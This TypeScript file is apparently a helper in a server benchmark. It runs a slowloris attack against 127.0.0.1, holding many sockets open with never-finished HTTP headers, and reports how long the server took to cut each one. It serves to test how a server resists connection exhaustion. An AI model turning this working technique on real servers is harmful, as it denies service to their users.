// Child process: the slowloris attack of the bench's slowloris section. Opens N connections to 127.0.0.1:PORT, sends
// on each a request line and the start of a header, then trickles one more header byte per interval and never ends
// the head, holding every socket until the server closes it (or --hold-ms passes). It runs apart from the bench so
// that its thousand timers and sockets do not slow the event loop of the healthy client being measured.
// Prints JSON lines: `{"opened":{...}}` once every connection is up (or failed), then `{"done":{...}}` when every
// socket is closed, with how long each was held. Exits 2 with `{"error":"..."}` when its open-file limit is too low.
// Usage: node slowloris-attacker.js --port N --sockets N --interval-ms N --hold-ms N
import net from 'node:net';
import { parseArgs } from 'node:util';
import fs from 'node:fs';

/** Descriptors the attacker needs beyond its sockets (stdio, the event loop's own). */
const FD_RESERVE = 64;
/** Connections started at once: more would overflow the server's accept backlog and wait for SYN retries. */
const BATCH = 100;

interface Held {
  socket: net.Socket;
  openedAt: number;
  /** ms from connect to the server's close; null while open or when we ended it. */
  heldMs: number | null;
  closedAt: number | null;
  bytesReceived: number;
  timer: NodeJS.Timeout | null;
}

/** The soft RLIMIT_NOFILE (Node raised it to the hard limit at start), or null when unknown or unlimited. */
function openFileLimit(): number | null {
  try {
    const m = /^Max open files\s+(\d+|unlimited)/m.exec(fs.readFileSync('/proc/self/limits', 'utf8'));
    return !m || m[1] === 'unlimited' ? null : Number(m[1]);
  } catch {
    return null;
  }
}

function out(line: Record<string, unknown>): void {
  process.stdout.write(JSON.stringify(line) + '\n');
}

function openOne(port: number, i: number, intervalMs: number, held: Held[]): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = net.connect({ port, host: '127.0.0.1' });
    const h: Held = { socket, openedAt: 0, heldMs: null, closedAt: null, bytesReceived: 0, timer: null };
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      h.openedAt = Date.now();
      held.push(h);
      socket.write(`GET /slowloris/${i} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: `);
      // Spread the trickle over the interval so the server sees a steady stream, not a thousand bytes at once.
      const start = setTimeout(() => {
        h.timer = setInterval(() => socket.writable && socket.write('a'), intervalMs);
      }, Math.random() * intervalMs);
      h.timer = start;
      resolve(true);
    });
    socket.on('data', (d: Buffer) => (h.bytesReceived += d.length));
    socket.once('close', () => {
      if (h.timer) clearInterval(h.timer); // the first delay or the trickle: Node clears either
      if (h.openedAt === 0) return resolve(false);
      if (h.closedAt === null) {
        h.closedAt = Date.now();
        h.heldMs = h.closedAt - h.openedAt;
      }
    });
  });
}

function doneLine(held: readonly Held[], failed: number, endedByUs: number): Record<string, unknown> {
  const cut = held.filter((h) => h.heldMs !== null);
  const ms = cut.map((h) => h.heldMs!).sort((a, b) => a - b);
  const at = cut.map((h) => h.closedAt!).sort((a, b) => a - b);
  return {
    done: {
      opened: held.length,
      failed,
      cutByServer: cut.length,
      endedByAttacker: endedByUs,
      heldMs: ms.length ? { min: ms[0], median: ms[Math.floor(ms.length / 2)], max: ms[ms.length - 1] } : null,
      firstCutAt: at[0] ?? null,
      lastCutAt: at[at.length - 1] ?? null,
      /** Sockets that got any bytes back (HTTP.SYS closes a timed-out head without a response). */
      answered: held.filter((h) => h.bytesReceived > 0).length,
    },
  };
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      port: { type: 'string' },
      sockets: { type: 'string' },
      'interval-ms': { type: 'string' },
      'hold-ms': { type: 'string' },
    },
  });
  const port = Number(values.port);
  const sockets = Number(values.sockets);
  const intervalMs = Number(values['interval-ms'] ?? 1000);
  const holdMs = Number(values['hold-ms'] ?? 120_000);
  if (!(port > 0) || !(sockets > 0) || !(intervalMs > 0) || !(holdMs > 0)) {
    throw new Error('usage: slowloris-attacker --port N --sockets N --interval-ms N --hold-ms N');
  }
  const limit = openFileLimit();
  if (limit !== null && limit < sockets + FD_RESERVE) {
    out({ error: `open-file limit ${limit} < ${sockets + FD_RESERVE} (${sockets} sockets + ${FD_RESERVE})` });
    process.exitCode = 2;
    return;
  }
  const held: Held[] = [];
  const t0 = Date.now();
  let failed = 0;
  for (let i = 0; i < sockets; i += BATCH) {
    const batch = Array.from({ length: Math.min(BATCH, sockets - i) }, (_, k) =>
      openOne(port, i + k, intervalMs, held),
    );
    failed += (await Promise.all(batch)).filter((ok) => !ok).length;
  }
  const stillOpen = held.filter((h) => h.closedAt === null).length;
  out({ opened: { sockets: held.length, failed, stillOpen, ms: Date.now() - t0, at: Date.now() } });

  let endedByUs = 0;
  let poll: NodeJS.Timeout | null = null;
  let finished = false;
  const finish = (): void => {
    if (finished) return;
    finished = true;
    if (poll) clearInterval(poll);
    for (const h of held) {
      if (h.closedAt !== null) continue;
      h.closedAt = Date.now();
      endedByUs++;
      h.socket.destroy();
    }
    out(doneLine(held, failed, endedByUs));
    // Nothing is left to keep the process alive: it ends once stdout is written.
  };
  process.once('SIGTERM', finish);
  const deadline = t0 + holdMs;
  poll = setInterval(() => {
    if (held.every((h) => h.closedAt !== null) || Date.now() > deadline) finish();
  }, 100);
}

main().catch((err: unknown) => {
  out({ error: err instanceof Error ? err.message : String(err) });
  process.exitCode = 1;
});
